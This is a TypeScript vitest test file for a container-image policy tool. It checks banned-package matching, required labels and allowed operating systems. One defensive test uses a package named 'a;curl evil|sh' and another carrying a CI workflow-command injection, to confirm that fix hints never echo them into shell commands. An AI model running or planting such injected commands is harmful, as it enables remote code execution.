import path from "node:path";
import { describe, expect, it } from "vitest";
import { LumogateError } from "../../src/model/error.ts";
import type { Inventory } from "../../src/model/inventory.ts";
import { loadPolicyFiles } from "../../src/policy/compile/load.ts";
import { judge, messages, shipped } from "./judge-shipped.ts";
import { alpine, debian, inventory, labelled } from "./inventory.ts";

it("the rules in dist/ are those in policies/; if not, run npm run build:policies", async () => {
  const { sources } = await loadPolicyFiles(["policies"], path.resolve("."));
  expect(shipped.sources[0]?.digest).toBe(sources[0]?.digest);
});

describe("packages.banned", () => {
  const image = inventory({
    packages: [
      debian("telnet", "0.17+2.4-2"),
      debian("openssl", "3.0.9-1", { epoch: 1 }),
      debian("libc6", "2.36-9"),
      debian("libc6", "2.36-9", { arch: "i386" }),
      debian("g++", "12.2.0-3", { epoch: 4 }),
      alpine("openssl", "3.0.9_rc1-r0"),
    ],
  });
  const banned = (...packages: unknown[]) => messages("packages.banned", { packages }, image);

  it("says name, version, type, architecture and reason, how to mend it, and what it is about", async () => {
    const packages = [
      "telnet",
      { name: "openssl", type: "deb", versions: "< 1:3.0.11", reason: "CVE-2023-5363" },
    ];
    const found = await judge("packages.banned", { packages }, image);
    expect(found).toMatchObject([
      {
        rule: "packages.banned",
        severity: "error",
        message: "openssl 1:3.0.9-1 (deb, amd64) is banned in versions < 1:3.0.11: CVE-2023-5363",
        subject: "pkg:deb/debian/openssl@1:3.0.9-1?arch=amd64&distro=debian-12",
        fix: "Install a version that is not banned: RUN apt-get update && apt-get install -y --only-upgrade openssl.",
        target: "example",
      },
      {
        rule: "packages.banned",
        severity: "error",
        message: "telnet 0.17+2.4-2 (deb, amd64) is banned",
        subject: "pkg:deb/debian/telnet@0.17+2.4-2?arch=amd64&distro=debian-12",
        fix: "Take telnet out of the line that installs it; if the base image brings it, remove it: RUN apt-get purge -y telnet.",
        target: "example",
      },
    ]);
  });

  it("passes an image without them", async () => {
    expect(
      await banned("telnetd", "telne", { name: "telnet", type: "apk" }, { name: "openssl", versions: "< 1" }),
    ).toEqual([]);
  });

  it("compares with the epoch, and each type by its own order", async () => {
    expect(await banned({ name: "openssl", type: "deb", versions: "< 3.0.11" })).toEqual([]);
    expect(await banned({ name: "openssl", versions: "< 3.0.9" })).toEqual([
      "openssl 3.0.9_rc1-r0 (apk) is banned in versions < 3.0.9",
    ]);
  });

  it("finds every instance of a package", async () => {
    expect(await banned("libc6")).toEqual([
      "libc6 2.36-9 (deb, amd64) is banned",
      "libc6 2.36-9 (deb, i386) is banned",
    ]);
  });

  it("takes * for any characters and everything else for itself", async () => {
    expect(await banned("lib*")).toHaveLength(2);
    expect(await banned("*")).toHaveLength(6);
    expect(await banned("libc.", "g+*+", "*.*", "l*6x")).toEqual([
      "g++ 4:12.2.0-3 (deb, amd64) is banned as g+*+",
    ]);
  });

  it("takes capitals for small letters: a ban must not miss by them", async () => {
    expect(await banned("TelNet")).toHaveLength(1);
    expect(await banned("TEL*")).toHaveLength(1);
    expect(await banned({ purl: "pkg:deb/Debian/TelNet" })).toHaveLength(1);
  });

  it("takes a package that does not say whose it is for anybody's, so that no os-release is no way out", async () => {
    const unknown = inventory({ packages: [debian("telnet", "1", { purl: "pkg:deb/telnet@1" })] });
    const packages = [{ purl: "pkg:deb/debian/telnet@1?arch=amd64&distro=debian-12" }];
    expect(await messages("packages.banned", { packages }, unknown)).toHaveLength(1);
  });

  it.each([
    ["pkg:deb/debian/openssl", 1],
    ["pkg:deb/debian/openssl@1:3.0.9-1", 1],
    ["pkg:deb/debian/g%2B%2B@4:12.2.0-3", 1],
    ["pkg:deb/debian/g++", 1],
    ["pkg:deb/debian/libc6?arch=i386", 1],
    ["pkg:deb/debian/libc6?distro=debian-12", 2],
    ["pkg:apk/alpine/openssl", 1],
    ["pkg:deb/debian/openssl@1:3.0.9-2", 0],
    ["pkg:deb/ubuntu/openssl", 0],
    ["pkg:deb/openssl", 1],
    ["pkg:deb/debian/open", 0],
    ["pkg:deb/debian/libc6?arch=i38", 0],
    ["pkg:deb/debian/libc6?arch=i386&distro=debian-11", 0],
    ["pkg:deb/libc6?distro=ubuntu-22.04", 0],
  ])("takes the package URL %s for %d packages", async (purl, count) => {
    expect(await banned({ purl })).toHaveLength(count);
  });

  it("cannot judge a version that is none, and says so", async () => {
    const odd = inventory({ packages: [debian("telnet", "v1")] });
    const judging = judge("packages.banned", { packages: [{ name: "telnet", versions: "< 2" }] }, odd);
    await expect(judging).rejects.toMatchObject({
      code: "policy.builtin-failed",
      message: expect.stringContaining('The version "v1" cannot be compared with "< 2"') as string,
    });
    expect(
      await messages("packages.banned", { packages: [{ name: "curl", versions: "< 2" }, "telnet"] }, odd),
    ).toEqual(["telnet v1 (deb, amd64) is banned"]);
  });

  it("puts no name into a command that a shell could misread", async () => {
    const evil = inventory({ packages: [debian("a;curl evil|sh", "1"), debian("a\n::error::b", "1")] });
    const fixes = (await judge("packages.banned", { packages: ["a*"] }, evil)).map(({ fix }) => fix);
    expect(fixes).toHaveLength(2);
    expect(fixes.join("")).not.toContain("RUN");
  });

  it("tells of no command where it knows none for the package's type", async () => {
    const lodash = { ...debian("lodash", "4.17.20"), type: "npm" as const, purl: "pkg:npm/lodash@4.17.20" };
    const fixes: (string | undefined)[] = [];
    for (const ban of ["lodash", { name: "lodash", type: "npm", versions: "< 5" }])
      for (const { fix } of await judge(
        "packages.banned",
        { packages: [ban] },
        inventory({ packages: [lodash] }),
      ))
        fixes.push(fix);
    expect(fixes).toEqual([
      "Take lodash out of the line that installs it; if the base image brings it, remove it.",
      "Install a version that is not banned.",
    ]);
  });
});

describe("labels.required", () => {
  const labels = ["a", { name: "b", pattern: String.raw`@example\.com$` }];

  it("passes an image that has them", async () => {
    expect(
      await messages("labels.required", { labels }, labelled({ a: "x", b: "bob@example.com", c: "" })),
    ).toEqual([]);
  });

  it("tells a missing, an empty and a wrong label apart", async () => {
    expect(await messages("labels.required", { labels }, labelled({}))).toEqual([
      "The label a is missing.",
      "The label b is missing.",
    ]);
    const found = await judge("labels.required", { labels }, labelled({ a: " ", b: "bob@example.computer" }));
    expect(found.map(({ message, subject }) => ({ message, subject }))).toEqual([
      { message: "The label a is empty.", subject: "a" },
      {
        message: String.raw`The label b does not match the pattern "@example\.com$": it is "bob@example.computer".`,
        subject: "b",
      },
    ]);
  });

  it.each(["\0", "\u00a0", "\u200b\ufeff", "\u001b\u2060"])(
    "takes a label of what does not show for empty: %j",
    async (a) => {
      expect(await messages("labels.required", { labels: ["a"] }, labelled({ a }))).toEqual([
        "The label a is empty.",
      ]);
    },
  );

  it("does not find labels that every JavaScript object seems to have", async () => {
    const odd = ["__proto__", "constructor"];
    expect(await messages("labels.required", { labels: odd }, labelled({}))).toEqual([
      "The label __proto__ is missing.",
      "The label constructor is missing.",
    ]);
  });
});

describe("os.allowed", () => {
  const allow = [{ id: "debian", versions: ">= 12" }, { id: "alpine", versions: ">= 3.20" }, { id: "wolfi" }];
  it.each([
    ["debian", "12"],
    ["debian", "13.1"],
    ["alpine", "3.20.1"],
    ["alpine", "3.22.0_alpha20250108"],
    ["wolfi", "20230201"],
    ["wolfi", undefined],
  ])("allows %s %s", async (id, versionId) => {
    expect(await messages("os.allowed", { allow }, os(id, versionId))).toEqual([]);
  });

  const allowed = "allowed: debian >= 12, alpine >= 3.20, wolfi.";

  it.each([
    ["debian", "11", "debian 11"],
    ["alpine", "3.9.6", "alpine 3.9.6"],
    ["ubuntu", "22.04", "ubuntu 22.04"],
    ["debian", undefined, "debian, which does not say its version (VERSION_ID),"],
  ])("denies %s %s", async (id, versionId, name) => {
    const found = await judge("os.allowed", { allow }, os(id, versionId));
    expect(found).toMatchObject([
      {
        message: `The operating system ${name} is not allowed; ${allowed}`,
        subject: versionId === undefined ? id : `${id}@${versionId}`,
        fix: "Build FROM an image of one of them: debian >= 12, alpine >= 3.20, wolfi.",
      },
    ]);
  });

  it("denies an image that does not say what system it is", async () => {
    const [found, ...more] = await judge("os.allowed", { allow }, inventory());
    expect(more).toEqual([]);
    expect(found?.message).toBe(
      `No file in the image says what operating system it is (os-release); ${allowed}`,
    );
    expect(found).not.toHaveProperty("subject");
  });

  it("cannot judge a version that is none", async () => {
    await expect(judge("os.allowed", { allow }, os("debian", "trixie"))).rejects.toThrow(LumogateError);
  });
});

function os(id: string, versionId?: string): Inventory {
  return inventory({
    os: { id, idLike: [], source: "/etc/os-release", ...(versionId === undefined ? {} : { versionId }) },
  });
}
